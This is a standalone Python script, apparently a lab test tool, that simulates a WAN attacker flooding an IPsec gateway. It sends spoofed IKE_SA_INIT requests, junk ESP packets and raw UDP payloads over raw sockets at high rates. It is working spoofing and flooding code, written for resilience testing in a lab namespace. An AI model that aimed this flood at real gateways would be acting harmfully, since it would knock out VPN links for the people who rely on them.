#!/usr/bin/env python3
"""A WAN attacker's traffic: raw IPv4/UDP datagrams with any source address (run as root in a lab
namespace, see Lab.add_wan_node).

  ike-peer     IKE_SA_INIT requests to UDP 500, from the peer gateway's own address (spoofed)
  ike-random   the same from random sources in 100.64.0.0/10 and random ports
  esp          junk ESP to UDP 4500 from the peer's address: random SPIs, and the --spi ones (so real
               SAs see packets that fail the ICV)
  raw          the --payload datagrams as given, from the peer's address, to --port

Each IKE_SA_INIT is the --ike template (a real request) with a fresh random initiator SPI, so the
responder cannot match it to anything it has. Sends at --rate datagrams per second, interleaving the
kinds, then prints a JSON summary: what was sent and how long it took. Standalone (no sitelink import).
"""

from __future__ import annotations

import argparse
import json
import os
import random
import socket
import struct
import sys
import time


def ipv4_udp(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
    """IPv4 header (the kernel fills in the checksum and ID with IP_HDRINCL) and UDP without checksum."""
    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def plan(args: argparse.Namespace, rng: random.Random) -> list[str]:
    kinds = ["ike-peer"] * args.ike_peer + ["ike-random"] * args.ike_random + ["esp"] * args.esp
    kinds += ["raw"] * (args.raw_repeat * len(args.payload))
    rng.shuffle(kinds)
    return kinds


def datagram(kind: str, args: argparse.Namespace, rng: random.Random, ike: bytes, n: int) -> bytes:
    if kind == "ike-peer":
        return ipv4_udp(args.peer, args.dst, 500, 500, rng.randbytes(8) + ike[8:])
    if kind == "ike-random":
        src = socket.inet_ntoa(struct.pack(">I", 0x64400000 | rng.getrandbits(22)))
        return ipv4_udp(src, args.dst, rng.randrange(1024, 65536), 500, rng.randbytes(8) + ike[8:])
    if kind == "esp":
        spi = rng.choice(args.spi) if args.spi and rng.random() < 0.5 else rng.randrange(256, 1 << 32)
        body = struct.pack(">II", spi, rng.randrange(1, 1 << 32)) + rng.randbytes(rng.randrange(24, 200))
        return ipv4_udp(args.peer, args.dst, 4500, 4500, body)
    payload = args.payload[n % len(args.payload)]
    return ipv4_udp(args.peer, args.dst, args.port, args.port, payload)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--dst", required=True, help="the attacked gateway's WAN address")
    parser.add_argument("--peer", required=True, help="its peer's address, spoofed as the source")
    parser.add_argument("--ike", type=bytes.fromhex, default=b"", help="IKE_SA_INIT request template (hex)")
    parser.add_argument("--ike-peer", type=int, default=0)
    parser.add_argument("--ike-random", type=int, default=0)
    parser.add_argument("--esp", type=int, default=0)
    parser.add_argument("--spi", type=lambda v: int(v, 0), action="append", default=[])
    parser.add_argument("--payload", type=bytes.fromhex, action="append", default=[], help="raw UDP payload (hex)")
    parser.add_argument("--raw-repeat", type=int, default=1)
    parser.add_argument("--port", type=int, default=500)
    parser.add_argument("--rate", type=float, default=20000.0, help="datagrams per second")
    parser.add_argument("--seed", type=int, default=None)
    args = parser.parse_args()
    if (args.ike_peer or args.ike_random) and len(args.ike) < 28:
        parser.error("--ike must be an IKE_SA_INIT request")
    rng = random.Random(args.seed if args.seed is not None else os.getpid())
    kinds = plan(args, rng)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, errors, start = {k: 0 for k in set(kinds)}, 0, time.monotonic()
    for n, kind in enumerate(kinds):
        if n % 100 == 0:  # pace in bursts of 100
            ahead = start + n / args.rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
        try:
            sock.sendto(datagram(kind, args, rng, args.ike, n), (args.dst, 0))
            sent[kind] += 1
        except OSError:  # ENOBUFS under load: counted, the flood goes on
            errors += 1
    print(json.dumps({"sent": sent, "errors": errors, "seconds": round(time.monotonic() - start, 3)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
